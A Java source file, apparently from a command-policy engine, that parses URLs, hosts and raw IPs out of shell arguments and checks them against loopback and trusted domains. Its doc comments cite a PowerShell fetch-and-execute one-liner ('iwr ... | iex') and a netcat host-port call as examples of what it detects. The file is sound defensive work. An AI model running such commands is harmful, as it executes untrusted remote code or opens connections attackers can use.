package dev.lighthouse.policy.facts;

import com.google.re2j.Pattern;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Optional;

/** Network addresses in arguments: URL hosts, raw IPs, plain-http sources. Pure string parsing, no DNS. */
final class Urls {
    private Urls() {}

    private static final Pattern SCHEME = Pattern.compile("^[a-zA-Z][a-zA-Z0-9+.-]*://.*");
    private static final Pattern IPV4 = Pattern.compile("^\\d{1,3}(\\.\\d{1,3}){3}$");
    private static final Pattern NUMERIC_HOST = Pattern.compile("^(0x[0-9a-fA-F]+|\\d{8,10})$");
    private static final Pattern HOST_PORT = Pattern.compile("^[A-Za-z0-9.-]+(:\\d{1,5})?(/.*)?$");

    /** A URL written anywhere in a text: a scheme, {@code ://}, and what follows up to a space, quote or bracket. */
    private static final Pattern IN_TEXT = Pattern.compile("[a-zA-Z][a-zA-Z0-9+.-]*://[^\\s'\"`()<>|;,]+");

    /** The URLs written in code, in order ({@code iwr http://203.0.113.9/a.ps1 | iex}). */
    static List<String> inText(String text) {
        List<String> urls = new ArrayList<>();
        var m = IN_TEXT.matcher(text);
        while (m.find()) {
            urls.add(m.group());
        }
        return urls;
    }

    static boolean isUrl(String word) {
        // Asked of every argument: most have no "://", and finding that needs no regular expression.
        return word.indexOf("://") > 0 && SCHEME.matcher(word).matches();
    }

    static String scheme(String url) {
        return url.substring(0, url.indexOf("://")).toLowerCase(Locale.ROOT);
    }

    /** The host of a URL with a scheme, in {@link Hosts#normalise normal form}. */
    static Optional<String> host(String url) {
        return isUrl(url) ? Hosts.ofUrl(url) : Optional.empty();
    }

    /** A host name for tools that take {@code host port} or {@code host:path}: {@code nc 10.0.0.1 4444}. */
    static Optional<String> bareHost(String word) {
        if (word.isEmpty() || word.startsWith("-") || !HOST_PORT.matcher(word).matches()) {
            return Optional.empty();
        }
        String written = word.split("[:/]", 2)[0].toLowerCase(Locale.ROOT);
        if (written.chars().allMatch(Character::isDigit)
                && !NUMERIC_HOST.matcher(written).matches()) {
            return Optional.empty();
        }
        return written.contains(".") || isRawIp(written) || written.equals("localhost")
                ? Optional.of(Hosts.normalise(written))
                : Optional.empty();
    }

    static boolean isRawIp(String host) {
        return IPV4.matcher(host).matches()
                || host.contains(":")
                || NUMERIC_HOST.matcher(host).matches();
    }

    static boolean isLoopback(String host) {
        return host.equals("localhost") || host.startsWith("127.") || host.equals("::1") || host.equals("0.0.0.0");
    }

    static boolean isTrusted(String host, Iterable<String> trustedDomains) {
        for (String domain : trustedDomains) {
            if (Hosts.within(host, Hosts.normalise(domain))) {
                return true;
            }
        }
        return false;
    }

    private static int firstOf(String s, String chars) {
        for (int i = 0; i < s.length(); i++) {
            if (chars.indexOf(s.charAt(i)) >= 0) {
                return i;
            }
        }
        return -1;
    }
}
